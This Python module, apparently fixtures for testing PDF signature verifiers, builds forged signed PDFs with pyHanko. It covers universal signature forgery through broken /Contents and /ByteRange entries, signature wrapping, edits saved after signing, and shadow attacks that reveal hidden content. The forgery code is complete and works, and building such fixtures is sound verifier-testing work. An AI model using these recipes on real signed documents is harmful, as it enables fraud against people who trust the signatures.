"""Attacks on signed PDFs, each a few lines over a file signed with the test PKI.

Two kinds of recipe: byte patches of the last signature's dictionary (the
"universal signature forgery" family: a /Contents or /ByteRange a careless
verifier trusts), and incremental updates after signing (the "incremental
saving" and "shadow" families: the signed bytes stay intact, the page shows
something else). Each recipe returns the attacked PDF.

Byte patches keep the file's length so that every offset in it, and the
cross-reference table, stays valid: what the verifier meets is exactly the
broken entry, not a broken file. Where the signed bytes themselves must
change, :func:`resign` signs them again with the same key, so that only the
structural flaw remains for the verifier to find.
"""

from __future__ import annotations

import asyncio
import io
import re
from dataclasses import dataclass

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.writer import PdfFileWriter
from pyhanko.sign import signers

BYTE_RANGE = re.compile(rb"/ByteRange\s*\[([^\]]*)\]")


@dataclass(frozen=True)
class SignatureBytes:
    """Where the last signature's /ByteRange array and /Contents string sit."""

    range_start: int  # the "[" of /ByteRange
    range_end: int  # after its "]"
    contents_start: int  # the "<" of /Contents
    contents_end: int  # after its ">"
    byte_range: tuple[int, ...]


def locate(pdf: bytes) -> SignatureBytes:
    match = list(BYTE_RANGE.finditer(pdf))[-1]
    values = tuple(int(v) for v in match.group(1).split() if v.lstrip(b"-").isdigit())
    # pyHanko pads the array with spaces up to the end of its line.
    end = match.end()
    while pdf[end : end + 1] == b" ":
        end += 1
    contents = pdf.rindex(b"/Contents <", 0, match.start()) + len(b"/Contents ")
    return SignatureBytes(
        range_start=match.start(1) - 1,
        range_end=end,
        contents_start=contents,
        contents_end=pdf.index(b">", contents) + 1,
        byte_range=values,
    )


def patch(pdf: bytes, offset: int, new: bytes, *, width: int | None = None) -> bytes:
    """Overwrite ``width`` bytes at ``offset`` (default len(new)), space-padded."""
    width = len(new) if width is None else width
    assert len(new) <= width, (new, width)
    return pdf[:offset] + new.ljust(width) + pdf[offset + width :]


def _set_byte_range(pdf: bytes, text: bytes) -> bytes:
    where = locate(pdf)
    width = where.range_end - where.range_start
    return patch(pdf, where.range_start, text, width=width)


def _set_contents(pdf: bytes, text: bytes) -> bytes:
    where = locate(pdf)
    width = where.contents_end - where.contents_start
    return patch(pdf, where.contents_start, text, width=width)


def _rename_key(pdf: bytes, key: bytes, new_key: bytes) -> bytes:
    """Rename the last occurrence of a key of the signature dictionary."""
    assert len(key) == len(new_key)
    index = pdf.rindex(key + b" ", 0, locate(pdf).range_end)
    return patch(pdf, index, new_key)


def resign(
    pdf: bytes, signer: signers.Signer, byte_range: tuple[int, ...] | None = None
) -> bytes:
    """Write ``byte_range`` (default: as it is) and a CMS over what it names.

    The signer's key is real, so the CMS verifies over exactly those bytes:
    whatever the verifier then objects to is the structure, not the digest.
    """
    where = locate(pdf)
    if byte_range is not None:
        text = b"[" + b" ".join(b"%d" % v for v in byte_range) + b"]"
        pdf = _set_byte_range(pdf, text)
    return _fill_contents(pdf, signer, _ranges(pdf, byte_range or where.byte_range))


def _ranges(pdf: bytes, byte_range: tuple[int, ...]) -> bytes:
    pairs = zip(byte_range[::2], byte_range[1::2], strict=True)
    return b"".join(pdf[offset : offset + length] for offset, length in pairs)


def _fill_contents(pdf: bytes, signer: signers.Signer, signed: bytes) -> bytes:
    from cryptography.hazmat.primitives import hashes

    digest = hashes.Hash(hashes.SHA256())
    digest.update(signed)
    cms = asyncio.run(signer.async_sign(digest.finalize(), "sha256", use_pades=True))
    where = locate(pdf)
    width = where.contents_end - where.contents_start - 2
    hex_value = cms.dump().hex().upper().encode().ljust(width, b"0")
    return patch(pdf, where.contents_start, b"<" + hex_value + b">")


# /Contents (universal signature forgery).


def contents_missing(pdf: bytes) -> bytes:
    return _rename_key(pdf, b"/Contents", b"/Xontents")


def contents_empty(pdf: bytes) -> bytes:
    return _set_contents(pdf, b"<>")


def contents_zeros(pdf: bytes) -> bytes:
    where = locate(pdf)
    zeros = b"0" * (where.contents_end - where.contents_start - 2)
    return _set_contents(pdf, b"<" + zeros + b">")


def contents_null(pdf: bytes) -> bytes:
    return _set_contents(pdf, b"null")


def contents_not_cms(pdf: bytes) -> bytes:
    where = locate(pdf)
    noise = b"DEADBEEF" * ((where.contents_end - where.contents_start) // 8 - 1)
    return _set_contents(pdf, b"<" + noise + b">")


# /ByteRange.


def byte_range_missing(pdf: bytes) -> bytes:
    return _rename_key(pdf, b"/ByteRange", b"/XyteRange")


def byte_range_null(pdf: bytes) -> bytes:
    return _set_byte_range(pdf, b"null")


def byte_range_wrong_arity(pdf: bytes, signer: signers.Signer) -> bytes:
    """Three numbers; the CMS signs what the usual four would name."""
    where = locate(pdf)
    first, length, second, _ = where.byte_range
    pdf = _set_byte_range(pdf, b"[%d %d %d]" % (first, length, second))
    return _fill_contents(pdf, signer, _ranges(pdf, where.byte_range))


def byte_range_negative(pdf: bytes) -> bytes:
    first, length, second, rest = locate(pdf).byte_range
    return _set_byte_range(pdf, b"[%d %d -%d %d]" % (first, length, second, rest))


def byte_range_wide_gap(pdf: bytes, signer: signers.Signer) -> bytes:
    """Leave part of the signature field unsigned, and change it."""
    first, length, second, rest = locate(pdf).byte_range
    gap_start = pdf.rindex(b"/Rect [ 0 0 0 0 ]", 0, length)
    # Everything from the field's /Rect to the signature value is now the
    # attacker's: the invisible signature becomes a visible one.
    forged = patch(pdf, gap_start, b"/Rect [ 9 9 9 9 ]")
    return resign(forged, signer, (first, gap_start, second, rest))


def byte_range_empty(pdf: bytes, signer: signers.Signer) -> bytes:
    """A CMS over the empty string, and a /ByteRange that names no byte."""
    pdf = _set_byte_range(pdf, b"[0 0 0 0]")
    return _fill_contents(pdf, signer, b"")


def signature_wrapping(pdf: bytes) -> bytes:
    """Point the signature at a copy of its second signed part, elsewhere.

    The signed bytes are all still in the file, byte for byte, but the
    /ByteRange of a redefined signature dictionary names a copy of the
    second part inside an update of the attacker's, which also draws over
    the page: the bytes between the two parts are now the attacker's.
    """
    first, length, second, rest = locate(pdf).byte_range
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    writer.add_object(generic.StreamObject(stream_data=pdf[second : second + rest]))
    sig = _last_signature_dict(writer)
    placeholder = 10**12
    sig[pdf_name("/ByteRange")] = _numbers(first, length, placeholder, rest)
    writer.update_container(sig)
    _draw_over_page(writer)
    wrapped = _written(writer)

    copy = wrapped.index(pdf[second : second + rest], len(pdf))
    old = b"%d %d %d %d" % (first, length, placeholder, rest)
    new = b"%d %d %d %d" % (first, length, copy, rest)
    return patch(wrapped, wrapped.index(old, len(pdf)), new, width=len(old))


def _last_signature_dict(
    writer: IncrementalPdfFileWriter,
) -> generic.DictionaryObject:
    fields = writer.root["/AcroForm"]["/Fields"]
    sig = [f.get_object()["/V"] for f in fields if f.get_object().get("/FT") == "/Sig"]
    value = sig[-1].get_object()
    assert isinstance(value, generic.DictionaryObject)
    return value


def _draw_over_page(writer: IncrementalPdfFileWriter) -> None:
    stream = writer.add_object(
        generic.StreamObject(stream_data=b"1 0 0 rg 100 600 200 200 re f")
    )
    writer.add_stream_to_page(0, stream)


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def unknown_subfilter(pdf: bytes, signer: signers.Signer) -> bytes:
    """The same signature under a /SubFilter no standard defines."""
    index = pdf.rindex(b"/SubFilter /", 0, len(pdf))
    end = pdf.index(b"\n", index)
    name = b"/SubFilter /x.edocx.unknown"
    return resign(patch(pdf, index, name, width=end - index), signer)


# Incremental updates after signing (incremental saving, shadow attacks).


def replace_page_content(pdf: bytes) -> bytes:
    """The page's content stream replaced by another one."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    page[pdf_name("/Contents")] = writer.add_object(
        generic.StreamObject(stream_data=b"1 0 0 rg 100 600 200 200 re f")
    )
    writer.update_container(page)
    return _written(writer)


def add_page(pdf: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    content = writer.add_object(
        generic.StreamObject(stream_data=b"1 0 0 rg 100 600 200 200 re f")
    )
    writer.insert_page(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/MediaBox"): _numbers(0, 0, 595, 842),
                pdf_name("/Resources"): generic.DictionaryObject(),
                pdf_name("/Contents"): content,
            }
        )
    )
    return _written(writer)


def add_annotation(pdf: bytes, subtype: str = "/Square") -> bytes:
    """An annotation whose appearance paints over the page's blue square."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page_ref = writer.find_page_for_modification(0)[0]
    appearance = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): _numbers(0, 0, 200, 200),
        },
        stream_data=b"1 0 0 rg 0 0 200 200 re f",
    )
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): _numbers(100, 600, 300, 800),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/Contents"): generic.TextStringObject("paid in full"),
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): writer.add_object(appearance)}
            ),
        }
    )
    writer.register_annotation(page_ref, writer.add_object(annotation))
    return _written(writer)


def append_after_eof(pdf: bytes) -> bytes:
    """A new definition of the page content after %%EOF, with no xref.

    Lenient readers rebuild the cross-reference table from the objects they
    find and take the last definition of each; strict ones never see it.
    """
    reader_page = re.search(rb"/Contents (\d+) 0 R", pdf)
    assert reader_page is not None
    number = int(reader_page.group(1))
    content = b"1 0 0 rg 100 600 200 200 re f"
    return pdf + (
        b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (number, len(content), content)
    )


def rewrite_signature_dict(pdf: bytes, **entries: str) -> bytes:
    """A later revision that rewrites entries (/Reason, /Name, /M) of the
    signature dictionary, keeping its /Contents and /ByteRange."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    sig = _last_signature_dict(writer)
    for key, value in entries.items():
        sig[pdf_name("/" + key)] = generic.TextStringObject(value)
    writer.update_container(sig)
    return _written(writer)


def _numbers(*values: int) -> generic.ArrayObject:
    return generic.ArrayObject(generic.NumberObject(v) for v in values)


# Shadow documents: the signed revision already holds the attacker's
# content, hidden; the update after signing only changes references.

COVER = b"1 1 1 rg 0 0 595 842 re f"
HIDDEN = b"1 0 0 rg 100 600 200 200 re f"


def shadow_document() -> bytes:
    """One page whose red square is painted over in white; a second page
    tree, unused, that shows the red square."""
    writer = PdfFileWriter()
    hidden = writer.add_object(generic.StreamObject(stream_data=HIDDEN))
    cover = writer.add_object(generic.StreamObject(stream_data=COVER))
    layers = writer.add_object(generic.ArrayObject([hidden, cover]))
    writer.insert_page(_page(layers))

    shadow_tree = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Pages"),
            pdf_name("/Count"): generic.NumberObject(1),
        }
    )
    shadow_ref = writer.add_object(shadow_tree)
    shadow_page = _page(hidden)
    shadow_page[pdf_name("/Parent")] = shadow_ref
    shadow_tree[pdf_name("/Kids")] = generic.ArrayObject(
        [writer.add_object(shadow_page)]
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(contents: generic.PdfObject) -> generic.DictionaryObject:
    return generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): _numbers(0, 0, 595, 842),
            pdf_name("/Resources"): generic.DictionaryObject(),
            pdf_name("/Contents"): contents,
        }
    )


def shadow_hide(pdf: bytes) -> bytes:
    """Drop the white cover from the page's layers: only that array changes."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    layers_ref = page.raw_get("/Contents")
    layers = layers_ref.get_object()
    del layers[1]
    writer.mark_update(layers_ref)
    return _written(writer)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Point the catalog at the unused page tree: only the catalog changes."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    in_use = writer.root.raw_get("/Pages").idnum
    trees = re.finditer(rb"(\d+) 0 obj\s*<<\s*/Type /Pages", pdf)
    shadow = next(int(m.group(1)) for m in trees if int(m.group(1)) != in_use)
    writer.root[pdf_name("/Pages")] = generic.IndirectObject(shadow, 0, writer)
    writer.update_root()
    return _written(writer)
